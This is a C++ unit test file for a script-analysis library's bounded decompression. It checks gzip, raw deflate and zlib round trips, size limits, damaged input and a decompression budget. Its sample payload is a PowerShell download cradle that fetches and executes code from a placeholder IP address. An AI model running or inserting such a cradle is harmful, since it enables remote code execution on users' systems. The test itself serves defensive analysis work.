// Bounded decompression: the three stream formats scripts use, a bound that holds, and damaged
// input that yields what could be read.
#include <gtest/gtest.h>
#include <zlib.h>

#include "script_analysis/inflate.hpp"

namespace script_analysis {
namespace {

// windowBits as deflateInit2 takes them: 16 + 15 gzip, -15 raw, 15 zlib.
std::string compress(std::string_view data, int window_bits) {
  z_stream stream{};
  EXPECT_EQ(deflateInit2(&stream, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY), Z_OK);
  std::string out(deflateBound(&stream, data.size()) + 32, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  stream.avail_in = static_cast<uInt>(data.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&stream, Z_FINISH), Z_STREAM_END);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

const std::string kScript = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')";

TEST(Inflate, ReadsGzipRawDeflateAndZlib) {
  for (auto [bits, format] :
       {std::pair{16 + 15, Compression::Gzip}, std::pair{-15, Compression::RawDeflate},
        std::pair{15, Compression::Zlib}}) {
    Inflated result = inflate_bytes(compress(kScript, bits), format, 1 << 20);
    EXPECT_EQ(result.data, kScript) << compression_name(format);
    EXPECT_TRUE(result.complete);
    EXPECT_FALSE(result.truncated);
  }
}

TEST(Inflate, SniffsHeaders) {
  EXPECT_EQ(sniff_compression(compress(kScript, 16 + 15)), Compression::Gzip);
  EXPECT_EQ(sniff_compression(compress(kScript, 15)), Compression::Zlib);
  EXPECT_FALSE(sniff_compression("plain text"));
}

TEST(Inflate, StopsAtTheBound) {
  const std::string zeros(1 << 20, '\0');
  Inflated result = inflate_bytes(compress(zeros, 16 + 15), Compression::Gzip, 4096);
  EXPECT_EQ(result.data.size(), 4096u);
  EXPECT_TRUE(result.truncated);
  EXPECT_FALSE(result.complete);
}

TEST(Inflate, DamagedInputYieldsWhatCameBefore) {
  std::string cut = compress(std::string(10000, 'a') + kScript, -15);
  cut.resize(cut.size() / 2);
  Inflated result = inflate_bytes(cut, Compression::RawDeflate, 1 << 20);
  EXPECT_FALSE(result.complete);
  EXPECT_FALSE(inflate_bytes("not deflate at all", Compression::Gzip, 1024).complete);
}

TEST(Inflate, BudgetChargesEveryStreamAndReportsTheLimit) {
  Limits limits;
  limits.max_stream_bytes = 1000;
  limits.max_total_decompressed = 1500;
  Budget budget(limits);
  const std::string big = compress(std::string(5000, 'x'), 16 + 15);
  auto first = inflate_within(big, Compression::Gzip, budget);
  ASSERT_TRUE(first);
  EXPECT_EQ(first->size(), 1000u);
  EXPECT_TRUE(budget.was_hit(LimitKind::DecompressedSize));
  auto second = inflate_within(big, Compression::Gzip, budget);
  ASSERT_TRUE(second);
  EXPECT_EQ(second->size(), 500u);
  EXPECT_TRUE(budget.was_hit(LimitKind::TotalDecompressedSize));
  EXPECT_FALSE(inflate_within(big, Compression::Gzip, budget));
}

}  // namespace
}  // namespace script_analysis
